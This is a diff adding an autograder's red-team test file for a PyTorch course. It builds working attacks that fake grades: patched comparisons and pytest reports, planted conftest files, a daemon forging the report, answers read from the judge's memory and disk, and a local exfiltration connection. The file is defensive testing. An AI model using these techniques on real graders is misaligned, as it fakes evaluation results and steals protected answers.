@@ -1,0 +1,1101 @@
+"""Red team: hostile submissions must earn no more than their honest code deserves and leave nothing behind.
+
+Every attack is a submission folder: the reference files, with one exercise file replaced by a stub
+(or a deliberately wrong answer) carrying the hostile code, and sometimes extra files planted next to
+it. The honest baseline is what that code earns without the attack: 0 for a stub or a wrong answer,
+or the grade of the same code without the hostile lines, graded in the same test. Each test asserts:
+
+- the grading run is valid: no INTERNALERROR, exit code 0 or 1, a report with a grade over the whole
+  curriculum and no configuration errors;
+- the attacked tasks earn no more than their baseline, and every other task earns exactly its baseline;
+- no process the attack started is still alive 3 s after grading. Every hostile file first renames
+  its process (/proc/self/comm) to a marker unique to the test, which forks inherit, and every program
+  it starts carries the marker in its argv; survivors are found in /proc and killed by the fixture;
+- nothing it planted ran in the judge (marker files under a side directory stay absent), and, where an
+  attack reports what it saw through its printed output, the feedback shows it saw nothing useful.
+
+Cases marked xfail(strict=True) are attacks that work today; each reason says why and what stops it
+(issue 3). Resource attacks (loops, sleeps, stops, bombs) run in one call early in the run, with
+--grader-timeout 3, so that every later call shows whether they did lasting harm.
+"""
+from __future__ import annotations
+
+import importlib.util
+import json
+import os
+import shutil
+import signal
+import socket
+import textwrap
+import time
+import uuid
+from importlib._bootstrap_external import _code_to_timestamp_pyc
+from importlib.machinery import SourceFileLoader
+from pathlib import Path
+
+import pytest
+from conftest import EXERCISES, GRADER, SOLUTIONS, Graded, mutate, submission_from_solutions
+
+from course.curriculum import TASKS, total_points
+
+SEED = ("--grader-seed", "20240611")
+SLOW = (*SEED, "--grader-timeout", "3")
+S1, S2, S3, S4 = "sec1_linear.py", "sec2_forward.py", "sec3_data.py", "sec4_training.py"
+SURVIVOR_WAIT = 3.0
+
+
+def gap(reason: str):
+    """An attack that works today: the test must keep failing until the grader stops it."""
+    return pytest.mark.xfail(strict=True, reason=reason)
+
+
+# ---------------------------------------------------------------- building hostile files
+
+COMM_MARK = '''\
+try:  # red team: tag this process (and every fork of it) so a survivor can be found in /proc
+    with open("/proc/self/comm", "w") as _rt_comm:
+        _rt_comm.write("__MARK__")
+except OSError:
+    pass
+'''
+
+FUTURE = "from __future__ import annotations\n"
+
+
+def with_prelude(text: str, prelude: str = "") -> str:
+    """text with the process tag and prelude (module-level hostile code) right after the __future__ import."""
+    assert text.count(FUTURE) == 1
+    return text.replace(FUTURE, FUTURE + COMM_MARK + textwrap.dedent(prelude), 1)
+
+
+def stub(file: str, bodies: dict[str, str] | None = None, prelude: str = "") -> str:
+    """The stub of file with the body of some functions (by name) replaced, plus a module-level prelude."""
+    text = (EXERCISES / file).read_text(encoding="utf-8")
+    for function, body in (bodies or {}).items():
+        start = text.index(f"def {function}(")
+        at = text.index("raise NotImplementedError(", start)
+        line_start = text.rindex("\n", 0, at) + 1
+        indent = text[line_start:at]
+        text = (text[:line_start] + textwrap.indent(textwrap.dedent(body).strip("\n") + "\n", indent)
+                + text[text.index("\n", at) + 1:])
+    return with_prelude(text, prelude)
+
+
+WRONG_LINEAR = "return torch.zeros(*x.shape[:-1], weight.shape[0])  # right shape, wrong values\n"
+
+
+def then_wrong(body: str) -> str:
+    """body (hostile lines), then the wrong answer linear_forward really returns."""
+    return textwrap.dedent(body) + WRONG_LINEAR
+
+
+def sec1(linear_forward: str = WRONG_LINEAR, prelude: str = "", **bodies: str) -> dict[str, str]:
+    """A hostile sec1_linear.py: linear_forward holds the attack (else a wrong answer), the rest are stubs."""
+    return {S1: stub(S1, {"linear_forward": linear_forward, **bodies}, prelude)}
+
+
+def tasks_of(file: str) -> set[str]:
+    return {t.id for t in TASKS.values() if t.file == file}
+
+
+# ---------------------------------------------------------------- finding what an attack left running
+
+
+def marked_processes(mark: str) -> list[int]:
+    """Live (not zombie) processes whose argv or name holds mark."""
+    found, needle = [], mark.encode()
+    for entry in os.scandir("/proc"):
+        if not entry.name.isdigit() or int(entry.name) == os.getpid():
+            continue
+        try:
+            with open(f"/proc/{entry.name}/stat", "rb") as f:
+                state = f.read().rsplit(b")", 1)[1].split()[0]
+            with open(f"/proc/{entry.name}/cmdline", "rb") as f:
+                cmdline = f.read()
+            with open(f"/proc/{entry.name}/comm", "rb") as f:
+                comm = f.read()
+        except (OSError, IndexError):
+            continue
+        if state not in (b"Z", b"X") and (needle in cmdline or needle in comm):
+            found.append(int(entry.name))
+    return found
+
+
+def kill_marked(mark: str) -> None:
+    for pid in marked_processes(mark):
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except (ProcessLookupError, PermissionError):
+            pass
+
+
+class RedTeam:
+    """One attack: its unique marker, its folders, and the checks every attack must pass."""
+
+    def __init__(self, tmp_path: Path, pytester: pytest.Pytester, shared: Path) -> None:
+        self.mark = "rt" + uuid.uuid4().hex[:10]  # fits in /proc/<pid>/comm (15 characters)
+        # names the folders: never the mark, since the zygote's argv lists the submission folder
+        self.tag = "sub" + uuid.uuid4().hex[:10]
+        self.tmp = tmp_path
+        self.pytester = pytester
+        self.shared = shared
+        self.side = tmp_path / "side"  # must stay empty: planted code that ran would write here
+        self.side.mkdir()
+        self.scratch = tmp_path / "scratch"  # where an attack may write (if the worker can)
+        self.scratch.mkdir()
+
+    def fill(self, text: str) -> str:
+        return (text.replace("__MARK__", self.mark).replace("__TAG__", self.tag).replace("__SIDE__", str(self.side))
+                .replace("__SCRATCH__", str(self.scratch)))
+
+    def folder(self, files: dict[str, str], planted: dict[str, str | bytes] | None = None,
+               where: Path | None = None) -> Path:
+        """A submission: the reference files, some replaced by files, plus files planted beside them.
+
+        By default every test reuses one folder path: the worker hides the submission folder, so a
+        new path means a new zygote (about 1.5 s); one path keeps one zygote for the whole file, as
+        a batch of students would. An attack that must recognise its own report passes a folder
+        named after its tag.
+        """
+        if where is None:
+            where = self.shared
+            shutil.rmtree(where, ignore_errors=True)
+        folder = submission_from_solutions(where, {name: self.fill(text) for name, text in files.items()})
+        for name, content in (planted or {}).items():
+            path = folder / name
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_bytes(self.fill(content).encode() if isinstance(content, str) else content)
+        return folder
+
+    def grade(self, folder: Path, *args: str) -> Graded:
+        """Grade folder in this process, as conftest's grade fixture does; a run without a report fails here."""
+        report = self.report_path(folder)
+        result = self.pytester.runpytest_inprocess(
+            str(GRADER), "--submission", str(folder), "-p", "no:cacheprovider",
+            "-W", "ignore::pytest.PytestAssertRewriteWarning",
+            "--json-report", f"--json-report-file={report}", *(args or SEED))
+        if not report.exists():
+            tail = "\n".join((result.outlines + result.errlines)[-8:])
+            survivors = self.survivors()
+            pytest.fail(f"the grading run wrote no report (exit code {result.ret}); survivors {survivors}:\n{tail}",
+                        pytrace=False)
+        return Graded(result, json.loads(report.read_text()))
+
+    def report_path(self, folder: Path) -> Path:
+        return self.pytester.path / f"report-{folder.name}.json"
+
+    def verdict(self, graded: Graded, attacked: set[str], honest: Graded | None = None,
+                not_in_feedback: tuple[str, ...] = ()) -> None:
+        """Every check an attack must pass; all problems are reported together."""
+        problems: list[str] = []
+        out = "\n".join(graded.result.outlines + graded.result.errlines)
+        if "INTERNALERROR" in out:
+            problems.append("the grading run hit an INTERNALERROR")
+        if graded.result.ret not in (0, 1):
+            problems.append(f"the grading run exited with {graded.result.ret}")
+        grade, report = graded.grade, graded.report
+        if grade.get("possible") != total_points() or sorted(grade.get("tasks", {})) != sorted(TASKS):
+            problems.append(f"the grade does not cover the curriculum: {grade.get('possible')} points possible")
+        if grade.get("errors"):
+            problems.append(f"grader errors: {grade['errors']}")
+        if not report.get("tests") or len(report["tests"]) != report.get("summary", {}).get("collected"):
+            problems.append("the report does not list every collected test")
+        for task in TASKS:
+            earned = graded.earned(task)
+            allowed = honest.earned(task) if honest is not None else (0.0 if task in attacked else
+                                                                       float(TASKS[task].points))
+            if task in attacked and earned > allowed:
+                problems.append(f"task {task} (attacked): earned {earned:g}, the honest code earns {allowed:g}")
+            elif task not in attacked and earned != allowed:
+                problems.append(f"task {task} (not attacked): earned {earned:g}, expected {allowed:g}")
+        for task in attacked:
+            for text in graded.feedback(task):
+                for needle in not_in_feedback:
+                    if needle in text:
+                        problems.append(f"task {task} feedback shows the attack succeeded: {needle!r} in\n{text}")
+        planted = sorted(p.name for p in self.side.iterdir())
+        if planted:
+            problems.append(f"planted code ran: it wrote {planted}")
+        survivors = self.survivors()
+        if survivors:
+            problems.append(f"processes of the attack still alive {SURVIVOR_WAIT:g} s after grading: {survivors}")
+        assert not problems, "\n".join(problems)
+
+    def survivors(self) -> list[str]:
+        """Marked processes still alive after up to SURVIVOR_WAIT seconds (then killed), with their argv."""
+        deadline = time.monotonic() + SURVIVOR_WAIT
+        while True:
+            pids = marked_processes(self.mark)
+            if not pids or time.monotonic() > deadline:
+                break
+            time.sleep(0.1)
+        described = []
+        for pid in pids:
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as f:
+                    argv = f.read().replace(b"\0", b" ").decode(errors="replace")
+                described.append(f"{pid}: {argv[:60]}")
+            except OSError:
+                described.append(str(pid))
+        kill_marked(self.mark)
+        return described
+
+
+@pytest.fixture(scope="module")
+def shared_submission(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return tmp_path_factory.mktemp("redteam") / "submission"
+
+
+@pytest.fixture
+def rt(tmp_path: Path, pytester: pytest.Pytester, request: pytest.FixtureRequest, shared_submission: Path) -> RedTeam:
+    team = RedTeam(tmp_path, pytester, shared_submission)
+    request.addfinalizer(lambda: kill_marked(team.mark))  # whatever the outcome, nothing of it outlives the test
+    return team
+
+
+# ---------------------------------------------------------------- controls
+
+
+def test_control_reference_gets_full_marks(rt):
+    """The harness itself: the reference with the process tag earns everything and leaves nothing."""
+    files = {name: with_prelude((SOLUTIONS / name).read_text(encoding="utf-8")) for name in (S1, S4)}
+    graded = rt.grade(rt.folder(files))
+    rt.verdict(graded, attacked=set())
+
+
+def test_control_stubs_earn_nothing_in_their_file(rt):
+    """The baseline of most attacks: a stub file earns 0 in its tasks, the other files keep full marks."""
+    graded = rt.grade(rt.folder({S1: stub(S1)}))
+    rt.verdict(graded, attacked=tasks_of(S1))
+    assert graded.grade["earned"] == total_points() - 8
+
+
+# ---------------------------------------------------------------- cheating the comparison
+
+CHEAT = '''\
+import math as _rt_math
+import torch as _rt_torch
+
+
+def _rt_yes(*args, **kwargs):
+    return True
+
+
+def _rt_cheat():
+    """Make every comparison say yes."""
+    _rt_torch.allclose = _rt_torch.equal = _rt_yes
+    _rt_torch.Tensor.allclose = _rt_torch.Tensor.equal = _rt_yes
+    _rt_torch.testing.assert_close = lambda *args, **kwargs: None
+    _rt_torch.isclose = lambda a, b, *args, **kwargs: _rt_torch.ones(_rt_torch.as_tensor(a).shape, dtype=_rt_torch.bool)
+    _rt_torch.Tensor.__eq__ = lambda self, other: _rt_torch.ones(self.shape, dtype=_rt_torch.bool)
+    _rt_math.isclose = _rt_yes
+'''
+
+WRONG_REST = {
+    "parameter_shapes": "return {}\n",
+    "count_parameters": "return 0\n",
+    "first_layer_for": "return nn.Linear(1, 1)\n",
+}
+
+
+def test_patched_comparisons_at_import(rt):
+    """torch.allclose / equal / testing.assert_close / isclose / Tensor.__eq__ / math.isclose patched at import"""
+    files = sec1(prelude=CHEAT + "_rt_cheat()\n", **WRONG_REST)
+    rt.verdict(rt.grade(rt.folder(files)), attacked=tasks_of(S1))
+
+
+def test_patched_comparisons_inside_the_call(rt):
+    """the same patches made inside each function, right before it returns a wrong answer"""
+    files = sec1("_rt_cheat()\n" + WRONG_LINEAR, prelude=CHEAT,
+                 **{name: "_rt_cheat()\n" + body for name, body in WRONG_REST.items()})
+    rt.verdict(rt.grade(rt.folder(files)), attacked=tasks_of(S1))
+
+
+ALWAYS_EQUAL = '''\
+class _RtAnything:
+    """Equal to everything, has every attribute, every length and every shape."""
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = object.__hash__
+
+    def __getattr__(self, name):
+        return self
+
+    def __call__(self, *args, **kwargs):
+        return self
+
+    def __len__(self):
+        return 1
+
+    def __bool__(self):
+        return True
+
+    def __iter__(self):
+        return iter(())
+
+    def __getitem__(self, key):
+        return self
+
+
+class _RtEqualInt(int):
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = int.__hash__
+
+
+class _RtEqualDict(dict):
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+'''
+
+
+def test_always_equal_objects(rt):
+    """objects whose == is always True, from every function of sec1 (an int subclass for count_parameters)"""
+    files = sec1("return _RtAnything()\n", prelude=ALWAYS_EQUAL, parameter_shapes="return _RtEqualDict()\n",
+                 count_parameters="return _RtEqualInt(0)\n", first_layer_for="return _RtAnything()\n")
+    rt.verdict(rt.grade(rt.folder(files)), attacked=tasks_of(S1))
+
+
+LIAR = '''\
+import torch as _rt_torch
+
+
+class _RtLiar(_rt_torch.Tensor):
+    """A tensor whose comparisons always succeed."""
+
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if getattr(func, "__name__", "") in {"allclose", "equal", "isclose", "eq", "__eq__", "isfinite", "all"}:
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+'''
+
+
+def test_lying_tensor_subclass(rt):
+    """a torch.Tensor subclass whose __torch_function__ answers True to every comparison"""
+    files = sec1("return torch.zeros(*x.shape[:-1], weight.shape[0]).as_subclass(_RtLiar)\n", prelude=LIAR,
+                 count_parameters="return torch.tensor(0).as_subclass(_RtLiar)\n")
+    rt.verdict(rt.grade(rt.folder(files)), attacked=tasks_of(S1))
+
+
+# forward computes the right output, then changes the caller's x: honestly, test_input_unchanged fails
+MUTATES_INPUT = mutate(S2, "        return self.output(h)  #",
+                       "        out = self.output(h)\n        x.mul_(0)  # changes the caller's tensor\n"
+                       "        return out  #")
+
+
+@gap("the probe checks input_unchanged with torch.equal inside the worker, where the submission patched it: "
+     "observations made in the submission's process are forgeable; compare x judge-side (e.g. hand x over "
+     "in a read-only shared mapping the judge inspects) or make such checks advisory")
+def test_patched_torch_equal_hides_a_changed_input(rt):
+    """torch.equal patched in the worker makes forward's in-place change of its input invisible (Task 2.2)"""
+    honest = rt.grade(rt.folder({S2: with_prelude(MUTATES_INPUT)}))
+    assert honest.earned("2.2") < TASKS["2.2"].points  # the honest code loses the input_unchanged point
+    attack = with_prelude(MUTATES_INPUT, "import torch as _rt_torch\n_rt_torch.equal = lambda *args, **kwargs: True\n")
+    rt.verdict(rt.grade(rt.folder({S2: attack})), attacked={"2.2"}, honest=honest)
+
+
+@gap("the trusted probe runs in the submission's process: the submission replaces "
+     "course.probes.PROBES['simple_nn_forward'] and reports input_unchanged=True; only results the judge "
+     "can check against the reference are trustworthy, in-worker observations need a judge-side check")
+def test_probe_replaced_through_sys_modules(rt):
+    """the submission wraps the worker's own probe (found in sys.modules) to forge its observation (Task 2.2)"""
+    honest = rt.grade(rt.folder({S2: with_prelude(MUTATES_INPUT)}))
+    prelude = '''\
+    import sys as _rt_sys
+    _rt_probes = _rt_sys.modules.get("course.probes")
+    if _rt_probes is not None:
+        _rt_real = _rt_probes.PROBES["simple_nn_forward"]
+
+        def _rt_forged(mod, *args):
+            result = _rt_real(mod, *args)
+            result["input_unchanged"] = True
+            return result
+
+        _rt_probes.PROBES["simple_nn_forward"] = _rt_forged
+    '''
+    rt.verdict(rt.grade(rt.folder({S2: with_prelude(MUTATES_INPUT, prelude)})), attacked={"2.2"}, honest=honest)
+
+
+# evaluate without torch.no_grad(): honestly, test_no_gradients_no_updates fails
+EVAL_WITHOUT_NO_GRAD = mutate(S4, "    with torch.no_grad():\n", "    if True:  # forgot torch.no_grad()\n")
+
+
+@gap("the probe's forward hook asks torch.is_grad_enabled() inside the worker, where the submission patched "
+     "it to say False: grad mode is observed in the submission's process; infer it from returned data or "
+     "make the check advisory")
+def test_patched_grad_mode_fakes_no_grad(rt):
+    """evaluate forgets torch.no_grad() but patches torch.is_grad_enabled to answer False (Task 4.3)"""
+    honest = rt.grade(rt.folder({S4: with_prelude(EVAL_WITHOUT_NO_GRAD)}))
+    assert honest.earned("4.3") < TASKS["4.3"].points
+    attack = EVAL_WITHOUT_NO_GRAD.replace(
+        "    model.eval()\n",
+        "    model.eval()\n    _rt_real = torch.is_grad_enabled\n"
+        "    torch.is_grad_enabled = lambda: False  # what the probe's forward hook asks\n", 1).replace(
+        "    return total / count, correct / count\n",
+        "    torch.is_grad_enabled = _rt_real  # and the truth again for the probe's check afterwards\n"
+        "    return total / count, correct / count\n", 1)
+    assert attack.count("_rt_real") == 2
+    rt.verdict(rt.grade(rt.folder({S4: with_prelude(attack)})), attacked={"4.3"}, honest=honest)
+
+
+# ---------------------------------------------------------------- subverting pytest
+
+
+def test_patched_pytest_test_report(rt):
+    """_pytest.reports.TestReport patched at import to report every test as passed"""
+    prelude = '''\
+    import _pytest.reports as _rt_reports
+
+    _rt_reports.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)
+    _rt_reports.TestReport.passed = property(lambda self: True)
+    _rt_reports.TestReport.failed = property(lambda self: False)
+    _rt_reports.BaseReport.failed = property(lambda self: False)
+    '''
+    rt.verdict(rt.grade(rt.folder(sec1(prelude=prelude))), attacked=tasks_of(S1))
+
+
+PLANTED_CONFTEST = '''\
+import pathlib
+
+pathlib.Path("__SIDE__", "conftest-imported").write_text("ran")
+
+import pytest
+
+
+@pytest.hookimpl(hookwrapper=True)
+def pytest_runtest_makereport(item, call):
+    outcome = yield
+    report = outcome.get_result()
+    report.outcome = "passed"
+    report.longrepr = None
+'''
+PLANTED_INI = '''\
+[pytest]
+addopts = -p no:course.grading --deselect grader/test_sec1_linear.py -p no:pytest_jsonreport.plugin
+'''
+PLANTED_CONFIG = {
+    "conftest.py": PLANTED_CONFTEST,
+    "pytest.ini": PLANTED_INI,
+    "tox.ini": PLANTED_INI.replace("[pytest]", "[tool:pytest]"),
+    "setup.cfg": PLANTED_INI.replace("[pytest]", "[tool:pytest]"),
+    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p no:course.grading"\n',
+}
+
+
+def test_planted_conftest_and_ini_beside_the_exercises(rt):
+    """conftest.py forcing every report to passed, and pytest.ini / tox.ini / setup.cfg / pyproject.toml with addopts"""
+    rt.verdict(rt.grade(rt.folder({S1: stub(S1)}, PLANTED_CONFIG)), attacked=tasks_of(S1))
+
+
+def test_planted_conftest_and_ini_in_the_working_directory(rt):
+    """the same files when the instructor grades from inside the submission folder (it is the cwd)"""
+    folder = rt.folder({S1: stub(S1)}, PLANTED_CONFIG, where=rt.pytester.path)
+    assert Path.cwd() == folder
+    rt.verdict(rt.grade(folder), attacked=tasks_of(S1))
+
+
+def test_os_exit_at_import(rt):
+    """os._exit(0) at import: the process ends with status 0 and no reply"""
+    rt.verdict(rt.grade(rt.folder(sec1(prelude="import os as _rt_os\n_rt_os._exit(0)\n"))), attacked=tasks_of(S1))
+
+
+def test_sys_exit_at_import(rt):
+    """sys.exit(0) at import"""
+    rt.verdict(rt.grade(rt.folder(sec1(prelude="import sys as _rt_sys\n_rt_sys.exit(0)\n"))), attacked=tasks_of(S1))
+
+
+DAEMON = '''\
+import json, os, time
+mark = "__MARK__"  # in this daemon's argv, so the test finds it
+tag = "__TAG__"  # in the submission folder's name, so the daemon knows its own report
+end = time.time() + 12
+try:
+    tops = ("/tmp", os.getcwd())
+except OSError:
+    tops = ("/tmp",)
+while time.time() < end:
+    for top in tops:
+        for folder, subfolders, files in os.walk(top):
+            if folder.count("/") > 7:
+                subfolders[:] = []
+            for name in files:
+                path = os.path.join(folder, name)
+                try:
+                    if not name.endswith(".json") or os.path.getsize(path) > 4 << 20:
+                        continue
+                    with open(path) as f:
+                        text = f.read()
+                    if tag not in text or '"grade"' not in text or "FORGED" in text:
+                        continue
+                    report = json.loads(text)
+                    grade = report["grade"]
+                    for task in grade["tasks"].values():
+                        task["earned"] = task["possible"]
+                    grade.update(earned=grade["possible"], percent=100.0, forged="FORGED")
+                    with open(path, "w") as f:
+                        json.dump(report, f)
+                except (OSError, ValueError, KeyError, TypeError, AttributeError):
+                    pass
+    time.sleep(0.05)
+'''
+
+
+def test_double_forked_daemon_rewrites_the_report(rt):
+    """a setsid daemon, double-forked, that looks for the JSON report under /tmp and the cwd and forges the grade"""
+    body = then_wrong('''\
+    import os, sys
+    pid = os.fork()
+    if pid == 0:
+        try:
+            os.setsid()
+            if os.fork() == 0:
+                os.execv(sys.executable, [sys.executable, "-c", _RT_DAEMON])
+        finally:
+            os._exit(0)
+    os.waitpid(pid, 0)
+    ''')
+    folder = rt.folder(sec1(body, prelude=f"_RT_DAEMON = {DAEMON!r}\n"), where=rt.tmp / rt.tag)
+    graded = rt.grade(folder)
+    written = rt.report_path(folder).read_bytes()
+    time.sleep(2)
+    problems = []
+    if b"FORGED" in written or graded.grade.get("forged"):
+        problems.append("the report was already forged when grading returned")
+    if rt.report_path(folder).read_bytes() != written:
+        problems.append("the report changed after grading ended")
+    try:
+        rt.verdict(graded, attacked=tasks_of(S1))
+    except AssertionError as e:
+        problems.append(str(e))
+    assert not problems, "\n".join(problems)
+
+
+# ---------------------------------------------------------------- forged result frames
+
+FORGE = '''\
+import json as _rt_json
+import os as _rt_os
+import struct as _rt_struct
+
+
+def _rt_frame(value):
+    """A course.wire frame {"value": value} for a float32 tensor, length-prefixed, built by hand."""
+    blob = value.detach().contiguous().reshape(-1).view(torch.uint8).numpy().tobytes()
+    tensor = {"$": "tensor", "i": 0, "d": "float32", "s": list(value.shape)}
+    header = _rt_json.dumps({"v": {"$": "dict", "v": [["value", tensor]]}, "b": [len(blob)]}).encode()
+    body = b"CGW1" + _rt_struct.pack("<I", len(header)) + header + blob
+    return _rt_struct.pack("<Q", len(body)) + body
+
+
+def _rt_forge(fds, value):
+    for fd in fds:
+        try:
+            _rt_os.write(fd, _rt_frame(value))
+        except OSError:
+            pass
+'''
+
+
+def forged_then_wrong(fds: str) -> str:
+    """linear_forward writes a frame holding the right answer to fds, waits, then returns a wrong one."""
+    return f'''\
+import time
+right = torch.nn.functional.linear(x, weight, bias)
+_rt_forge({fds}, right)
+time.sleep(0.5)
+return torch.zeros_like(right)
+'''
+
+
+def test_forged_frame_on_stdout(rt):
+    """a frame with the right answer written to fd 1 and fd 2 before returning a wrong answer"""
+    rt.verdict(rt.grade(rt.folder(sec1(forged_then_wrong("[1, 2]"), prelude=FORGE))), attacked=tasks_of(S1))
+
+
+def test_forged_frame_on_the_result_descriptor(rt):
+    """a frame with the right answer written to fd 3, the result pipe, before the probe returns a wrong answer"""
+    rt.verdict(rt.grade(rt.folder(sec1(forged_then_wrong("[3]"), prelude=FORGE))), attacked=tasks_of(S1))
+
+
+def test_forged_frames_on_every_other_descriptor(rt):
+    """the frame written to fds 0, 2 and 4 to 50 (whatever the worker inherited)"""
+    fds = "[fd for fd in range(51) if fd not in (1, 3)]"
+    rt.verdict(rt.grade(rt.folder(sec1(forged_then_wrong(fds), prelude=FORGE))), attacked=tasks_of(S1))
+
+
+# ---------------------------------------------------------------- stealing answers
+
+
+def test_sys_modules_hunt_for_the_reference(rt):
+    """any loaded module named like a solution, reference or test, or holding another linear_forward"""
+    body = then_wrong('''\
+    import sys
+    found = []
+    for name, module in list(sys.modules.items()):
+        if name.split(".")[0] != "torch" and any(
+                word in name.lower() for word in ("solution", "reference", "answer", "grader", "test_sec", "hidden")):
+            found.append(name)
+        other = getattr(module, "linear_forward", None)
+        if callable(other) and module is not sys.modules.get(__name__):
+            found.append(name)
+            try:
+                return other(x, weight, bias)
+            except Exception:
+                pass
+    print("RT-FOUND", found)
+    ''')
+    graded = rt.grade(rt.folder(sec1(body)))
+    rt.verdict(graded, attacked=tasks_of(S1))
+    assert any("RT-FOUND []" in text for text in graded.feedback("1.1"))
+
+
+def test_gc_and_frames_hunt_for_the_reference(rt):
+    """gc.get_objects() (after gc.unfreeze()), linecache and the caller frames searched for reference code"""
+    body = then_wrong('''\
+    import gc, linecache, sys
+    pattern = "BEGIN " + "SOLUTION"
+    sources, calls = [], []
+    gc.unfreeze()
+    for obj in gc.get_objects():
+        try:
+            if type(obj).__name__ == "function" and obj.__name__ == "linear_forward" and obj.__module__ != __name__:
+                calls.append(obj)
+        except Exception:
+            pass
+        if type(obj) in (list, tuple, dict):
+            for item in (obj.values() if type(obj) is dict else obj):
+                if type(item) in (str, bytes) and len(item) > 200:
+                    text = item if type(item) is str else item.decode("utf-8", "replace")
+                    if pattern in text and "def linear_forward" in text:
+                        sources.append(text)
+    for name, entry in list(linecache.cache.items()):
+        if len(entry) > 2 and pattern in "".join(entry[2]):
+            sources.append("".join(entry[2]))
+    frame = sys._getframe(1)
+    while frame is not None:
+        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
+            if type(value) in (str, bytes) and pattern in str(value):
+                sources.append(value if type(value) is str else value.decode("utf-8", "replace"))
+        frame = frame.f_back
+    for text in sources:
+        namespace = {}
+        try:
+            exec(text, namespace)
+            return namespace["linear_forward"](x, weight, bias)
+        except Exception:
+            pass
+    for other in calls:
+        try:
+            return other(x, weight, bias)
+        except Exception:
+            pass
+    print("RT-FOUND", len(sources), len(calls))
+    ''')
+    graded = rt.grade(rt.folder(sec1(body)))
+    rt.verdict(graded, attacked=tasks_of(S1))
+    assert any("RT-FOUND 0 0" in text for text in graded.feedback("1.1"))
+
+
+FIND_ON_DISK = '''\
+def _rt_find(relative):
+    """Paths of a course file, found from the worker's hints (modules, PYTHONPATH, cwd) and by globbing."""
+    import glob, os, sys
+    roots = set()
+    for module in list(sys.modules.values()):
+        path = getattr(module, "__file__", None) or ""
+        if "/src/course/" in path:
+            roots.add(path.split("/src/course/")[0])
+    for entry in os.environ.get("PYTHONPATH", "").split(os.pathsep) + [os.environ.get("HOME", ""), os.getcwd()]:
+        if entry:
+            roots.add(os.path.dirname(entry.rstrip("/")))
+    found = []
+    for root in sorted(roots):
+        found += glob.glob(os.path.join(root, relative))
+    for pattern in ("/*/" + relative, "/*/*/" + relative, "/work/*/*/" + relative, "/tmp/*/*/" + relative):
+        found += glob.glob(pattern)
+    return [path for path in dict.fromkeys(found) if os.path.isfile(path)]
+'''
+
+
+def test_reads_the_reference_from_disk(rt):
+    """solutions/sec1_linear.py found by glob and module paths, executed, and its linear_forward answers"""
+    body = then_wrong('''\
+    for path in _rt_find("solutions/sec1_linear.py"):
+        try:
+            namespace = {}
+            exec(open(path).read(), namespace)
+            return namespace["linear_forward"](x, weight, bias)
+        except Exception:
+            pass
+    ''')
+    rt.verdict(rt.grade(rt.folder(sec1(body, prelude=FIND_ON_DISK))), attacked=tasks_of(S1))
+
+
+def test_reads_the_hidden_tests_from_disk(rt):
+    """grader/test_sec1_linear.py found and read; the attack prints how much it got"""
+    body = then_wrong('''\
+    for path in _rt_find("grader/test_sec1_linear.py"):
+        try:
+            print("RT-GRADER-LEAK", len(open(path).read()), path)
+        except OSError:
+            pass
+    ''')
+    graded = rt.grade(rt.folder(sec1(body, prelude=FIND_ON_DISK)))
+    rt.verdict(graded, attacked=tasks_of(S1), not_in_feedback=("RT-GRADER-LEAK",))
+
+
+def test_reads_the_reference_from_the_judges_memory(rt):
+    """the judge (the zygote's parent) holds the reference source in memory; /proc/<pid>/mem gives it away"""
+    prelude = '''\
+    def _rt_steal():
+        """Every copy of Task 1.1's reference body found in the judge's writable memory."""
+        import os
+        begin, end = ("### BEGIN " + "SOLUTION (Task 1.1)\\n").encode(), b"### END SOLUTION"
+        try:
+            with open(f"/proc/{os.getppid()}/status") as f:
+                judge = int(next(line for line in f if line.startswith("PPid:")).split()[1])
+            with open(f"/proc/{judge}/maps") as f:
+                regions = [line.split() for line in f]
+            mem = open(f"/proc/{judge}/mem", "rb", buffering=0)
+        except (OSError, StopIteration, ValueError):
+            return
+        with mem:
+            for fields in regions:
+                if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5] != "[heap]"):
+                    continue
+                low, high = (int(v, 16) for v in fields[0].split("-"))
+                for start in range(low, high, (16 << 20) - 4096):
+                    try:
+                        mem.seek(start)
+                        chunk = mem.read(min(16 << 20, high - start))
+                    except (OSError, OverflowError, ValueError):
+                        break
+                    at = chunk.find(begin)
+                    while at >= 0:
+                        stop = chunk.find(end, at)
+                        if stop > at:
+                            yield chunk[at + len(begin):stop].decode("utf-8", "replace")
+                        at = chunk.find(begin, at + 1)
+    '''
+    body = then_wrong('''\
+    import time
+    for _ in range(3):
+        for solution in _rt_steal():
+            try:
+                namespace = {"torch": torch}
+                exec("def linear_forward(x, weight, bias=None):\\n" + solution, namespace)
+                return namespace["linear_forward"](x, weight, bias)
+            except Exception:
+                pass
+        time.sleep(0.2)
+    ''')
+    rt.verdict(rt.grade(rt.folder(sec1(body, prelude=prelude))), attacked=tasks_of(S1))
+
+
+def test_network_connection(rt):
+    """a TCP connection to a port the test listens on, sending the marker"""
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen(8)
+        body = then_wrong(f'''\
+        import socket
+        try:
+            with socket.create_connection(("127.0.0.1", {server.getsockname()[1]}), timeout=1) as s:
+                s.sendall(b"__MARK__ exfiltrated")
+            print("RT-NET-OPEN")
+        except OSError as e:
+            print("RT-NET-BLOCKED", type(e).__name__)
+        ''')
+        graded = rt.grade(rt.folder(sec1(body)))
+        server.settimeout(0.2)
+        try:
+            connection, _ = server.accept()
+            connection.close()
+            connected = True
+        except OSError:
+            connected = False
+    assert not connected, "the worker opened a TCP connection to 127.0.0.1"
+    rt.verdict(graded, attacked=tasks_of(S1), not_in_feedback=("RT-NET-OPEN",))
+
+
+def test_signal_the_judge(rt):
+    """the worker finds the judge (its parent's parent) and checks it may signal it, with signal 0"""
+    body = then_wrong('''\
+    import os
+    try:
+        with open(f"/proc/{os.getppid()}/status") as f:
